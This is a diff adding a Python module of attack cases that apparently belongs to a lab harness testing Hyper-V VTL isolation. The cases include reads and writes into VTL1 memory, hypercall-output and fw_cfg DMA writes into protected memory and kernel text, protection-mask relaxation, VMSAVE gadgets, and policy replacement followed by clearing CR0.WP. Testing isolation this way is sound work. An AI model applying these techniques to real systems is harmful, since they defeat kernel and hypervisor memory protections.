@@ -1,0 +1,191 @@
+"""VTL1's own memory and state: by the processor, by a hypercall's output, by a device, by AMD-V's own instructions."""
+
+from __future__ import annotations
+
+import struct
+
+from vtlab.client.driver import Driver
+from vtlab.client.machine import Machine
+from vtlab.client.symbols import Symbols
+from vtlab.hyperv.status import HvStatus
+from vtlab.services import Service
+from vtlab.x86.registers import Cr0
+from vtlab_attacks.evidence import Attack, Attempts, Evidence, Run, observe
+from vtlab_attacks.state import PAGE, direct, memory, register, show_bytes
+
+PARTITION_SELF = 0xFFFFFFFFFFFFFFFF
+VP_SELF = 0xFFFFFFFE
+REP_ONE = 1 << 32
+MODIFY_VTL_PROTECTION_MASK = 0x0C
+GET_VP_REGISTERS = 0x50
+VSM_CODE_PAGE_OFFSETS = 0x000D0002
+SECRET_SIZE = 32
+
+FW_CFG_DMA = 0x514
+FW_CFG_READ_SIGNATURE = 0 << 16 | 8 | 2  # key 0 ("QEMU"), SELECT, READ
+FW_CFG_ERROR = 1
+
+LITEBOX_852 = "litebox issue 852 (ranges that overlap VTL1's memory)"
+BYPASS_DMA = "Christopherson 2023-05-25: 'a guest can make a host device write protected memory'"
+NEEDS_VTL1 = "VTL1 is not enabled, so there is nothing to relax"
+
+
+def read_secret(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    mailbox = symbols["driver_mailbox"]
+
+    def steps(attempts: Attempts) -> None:
+        attempts.step(driver.copy, mailbox, symbols["vtl1_memory"], SECRET_SIZE)
+
+    return observe(
+        "attacker's copy of VTL1's memory",
+        lambda: memory(machine, symbols.physical("driver_mailbox"), SECRET_SIZE),
+        steps,
+        symbols,
+        lambda _, after: any(after or b""),
+        show_bytes,
+    )
+
+
+def write_secret(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    target = symbols.physical("vtl1_memory")
+
+    def steps(attempts: Attempts) -> None:
+        attempts.step(driver.write_bytes, direct(target), b"forged!!")
+
+    return observe("VTL1's memory", lambda: memory(machine, target, SECRET_SIZE), steps, symbols, show=show_bytes)
+
+
+def hypercall_output(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    """The hypervisor writes with all rights there are, unless it minds whose buffer it is."""
+    target, given = symbols.physical("vtl1_memory"), symbols.physical("driver_mailbox")
+    machine.write_memory(given, struct.pack("<QIB3xI", PARTITION_SELF, VP_SELF, 0, VSM_CODE_PAGE_OFFSETS))
+
+    def steps(attempts: Attempts) -> None:
+        attempts.step(lambda: attempts.note(hypercall(driver, GET_VP_REGISTERS | REP_ONE, given, target)))
+
+    return observe("VTL1's memory", lambda: memory(machine, target, SECRET_SIZE), steps, symbols, show=show_bytes)
+
+
+def hypercall(driver: Driver, control: int, given: int, wanted: int) -> str:
+    """Status of a hypercall as a denial, "" if it is success."""
+    status = driver.hypercall(control, given, wanted) & 0xFFFF
+    name = HvStatus(status).name if status in set(HvStatus) else hex(status)
+    return f"HV_STATUS_{name}" if status else ""
+
+
+def dma_into(target_symbol: str, what: str) -> Run:
+    """The guest programs fw_cfg, a device of the host, to write there."""
+
+    def run(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+        target, request = symbols.physical(target_symbol), symbols.physical("driver_mailbox")
+        machine.write_memory(request, struct.pack(">IIQ", FW_CFG_READ_SIGNATURE, 4, target))
+
+        def steps(attempts: Attempts) -> None:
+            for half, port in ((request >> 32, FW_CFG_DMA), (request & 0xFFFFFFFF, FW_CFG_DMA + 4)):
+                attempts.step(driver.call, symbols["outl"], port, int.from_bytes(half.to_bytes(4, "big"), "little"))
+            answer = struct.unpack(">I", machine.read_memory(request, 4))[0]
+            attempts.note("fw_cfg DMA: error bit" if answer & FW_CFG_ERROR else "")
+
+        return observe(what, lambda: memory(machine, target), steps, symbols, show=show_bytes)
+
+    return run
+
+
+def relax(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    """HvCallModifyVtlProtectionMask, from the level that is restricted; with and without a target VTL."""
+    address = symbols["text_start"]
+    given = symbols.physical("driver_mailbox")
+
+    def steps(attempts: Attempts) -> None:
+        for vtl in (0x00, 0x10, 0x11):
+            header = struct.pack("<QIB3x", PARTITION_SELF, 0xF, vtl)
+            machine.write_memory(given, header + struct.pack("<Q", symbols.physical(address) // PAGE))
+            control = MODIFY_VTL_PROTECTION_MASK | REP_ONE
+            attempts.step(lambda control=control: attempts.note(hypercall(driver, control, given, 0)))
+
+    return observe(
+        "VTL0's write access to kernel text", lambda: machine.translate(address).access.write, steps, symbols
+    )
+
+
+def vmsave(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    """AMD-V's VMSAVE writes physical memory below the nested table: 512 bytes from offset 0x440 of the page in RAX."""
+    text = symbols.physical("text_start")
+    targets = [
+        text,
+        symbols.physical("kernel_pml4"),
+        symbols.physical("vtl1_memory"),
+        *(1 << n for n in range(26, 40, 2)),
+    ]
+
+    def state() -> tuple[bytes | None, bytes]:
+        return memory(machine, text + 0x440, 64), machine.translate(symbols["text_start"]).access.SerializeToString()
+
+    def steps(attempts: Attempts) -> None:
+        for target in targets:
+            attempts.step(driver.call, symbols["gadget_vmsave"], target)
+
+    return observe(
+        "text at VMSAVE's offset, and its nested rights",
+        state,
+        steps,
+        symbols,
+        show=lambda seen: f"{(seen[0] or b'')[:4].hex(' ')}…, {seen[1].hex()}",
+    )
+
+
+LAX_POLICY = b"version: 1\nname: lax\n"
+
+
+def replace_policy(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    """Hands VTL1 a policy that guards nothing, then clears what the first one pinned."""
+    text = symbols.physical("driver_mailbox")
+    machine.write_memory(text, LAX_POLICY)
+
+    def steps(attempts: Attempts) -> None:
+        if attempts.step(driver.vtl, Service.TAKE_POLICY, text, len(LAX_POLICY)):
+            attempts.step(driver.call, symbols["gadget_mov_cr0"], register(machine, "cr0") & ~Cr0.WP)
+
+    return observe(
+        "CR0.WP", lambda: int(bool(register(machine, "cr0") & Cr0.WP)), steps, symbols, lambda _, after: not after
+    )
+
+
+ATTACKS = [
+    Attack("vtl1-read", "Reads VTL1's memory", LITEBOX_852, read_secret),
+    Attack("vtl1-write", "Writes VTL1's memory", LITEBOX_852, write_secret),
+    Attack(
+        "vtl1-hypercall-output",
+        "Names VTL1's memory as the output of a hypercall",
+        "TLFS, VTL memory rights",
+        hypercall_output,
+    ),
+    Attack("vtl1-dma", "Has fw_cfg write VTL1's memory by DMA", BYPASS_DMA, dma_into("vtl1_memory", "VTL1's memory")),
+    Attack(
+        "text-dma",
+        "Has fw_cfg write kernel text by DMA",
+        BYPASS_DMA,
+        dma_into("static_key_audit", "code of static_key_audit"),
+    ),
+    Attack(
+        "hypercall-relax",
+        "Gives itself write access to text by HvCallModifyVtlProtectionMask",
+        "TLFS, HvCallModifyVtlProtectionMask",
+        relax,
+        NEEDS_VTL1,
+    ),
+    Attack(
+        "vmsave-nested",
+        "Writes below the nested table by VMSAVE",
+        "AMD APM volume 2, 15.5.2; seen in the emulator this core is built on",
+        vmsave,
+        "the core hides AMD-V from every guest, guarded or not",
+    ),
+    Attack(
+        "policy-replace",
+        "Hands VTL1 a laxer policy after the lock",
+        "Christopherson 2024-05-07: who may re-authenticate",
+        replace_policy,
+        "VTL1 is not enabled, so there is no policy to replace",
+    ),
+]
